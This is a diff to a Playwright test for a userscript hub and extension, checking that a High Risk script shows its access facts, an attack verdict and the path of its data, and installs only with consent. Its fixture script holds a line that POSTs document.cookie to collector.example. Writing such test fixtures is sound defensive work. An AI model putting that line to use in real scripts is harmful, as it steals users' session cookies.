@@ -1,5 +1,5 @@
 import { fileURLToPath } from "node:url";
-import { expect, test } from "@playwright/test";
+import { expect, type Locator, type Page, test } from "@playwright/test";
 import { openExtensionBrowser } from "../support/extension.ts";
 import { startFixtureServer } from "../support/fixture-server.ts";
 import { extensionFolder, hubOrigin, scriptLinks, signIn } from "../support/hub.ts";
@@ -77,7 +77,17 @@ const DANGEROUS = `// ==UserScript==
 fetch("https://collector.example/keep", { method: "POST", body: document.cookie });
 `;
 
-test("a High Risk script is found by searching only, and installed only with consent, on hub and extension", async ({
+/** Both answers of the rating of `DANGEROUS`, as pages state them. */
+async function expectAnswers(place: Page | Locator): Promise<void> {
+	const access = place.getByRole("region", { name: "Access" }).first();
+	await expect(access).toContainText("This site only: example.org");
+	await expect(access).toContainText("Runs no code of others");
+	await expect(access).toContainText("Reads cookies");
+	await expect(access).toContainText("Contacts collector.example");
+	await expect(place.getByText("Looks like an attack").first()).toBeVisible();
+}
+
+test("a High Risk script is found by searching only, states access and verdict from card to confirm page, and is installed only with consent, on hub and extension", async ({
 	page,
 }) => {
 	const title = `Session backup ${Date.now().toString(36)}`;
@@ -99,10 +109,20 @@ test("a High Risk script is found by searching only, and installed only with con
 		await search.press("Enter");
 		const result = hub.getByRole("list", { name: "Scripts" }).getByRole("listitem").filter({ hasText: title });
 		await expect(result.getByText("High Risk")).toBeVisible();
+		await expect(result.getByText("Looks like an attack")).toBeVisible();
+		for (const fact of ["Runs on example.org", "Reads cookies", "Contacts collector.example"]) {
+			await expect(result.getByRole("list", { name: "What it is and may do" })).toContainText(fact);
+		}
 		await result.getByRole("link", { name: title }).first().click();
 
 		const panel = hub.getByRole("region", { name: "Instructions" });
 		await expect(panel.getByRole("region", { name: "This version can harm you" })).toBeVisible();
+		await expectAnswers(panel);
+		const analysis = hub.getByRole("region", { name: "Security Analysis" });
+		await expectAnswers(analysis);
+		// The path of the data, quoted.
+		await expect(analysis.getByText("Data flow")).toBeVisible();
+		await expect(analysis).toContainText("document.cookie");
 		const consent = panel.getByRole("checkbox", { name: /install it anyway: .*collector\.example/ });
 		const install = panel.getByRole("button", { name: /^Install / });
 		const files = hub.locator("a[href$='.user.js'], a[data-drag-link]");
@@ -120,6 +140,8 @@ test("a High Risk script is found by searching only, and installed only with con
 		await expect(confirmation.getByRole("region", { name: "Security rating" })).toContainText("High Risk");
 		const findings = confirmation.getByRole("list", { name: "Most serious findings" });
 		await expect(findings).toContainText("collector.example");
+		await expectAnswers(confirmation);
+		await expect(findings.getByRole("list", { name: "The path of the data" })).toContainText("document.cookie");
 		const confirm = confirmation.getByRole("button", { name: "Install", exact: true });
 		await expect(confirm).toBeDisabled();
 		await confirmation.getByRole("checkbox", { name: /install it anyway: .*collector\.example/ }).check();
@@ -135,6 +157,8 @@ test("a High Risk script is found by searching only, and installed only with con
 	await page.getByRole("button", { name: /^Install / }).click();
 	const dialog = page.getByRole("dialog", { name: "Install a userscript" });
 	await expect(dialog.getByRole("list", { name: "Most serious findings" })).toContainText("collector.example");
+	await expectAnswers(dialog);
+	await expect(dialog.getByRole("list", { name: "The path of the data" })).toContainText("document.cookie");
 	await dialog.getByRole("checkbox", { name: /install it anyway/ }).uncheck();
 	await expect(dialog.getByRole("link", { name: "Open the installable file" })).toHaveCount(0);
 	await expect(dialog.getByRole("link", { name: "Get the extension" })).toBeVisible();
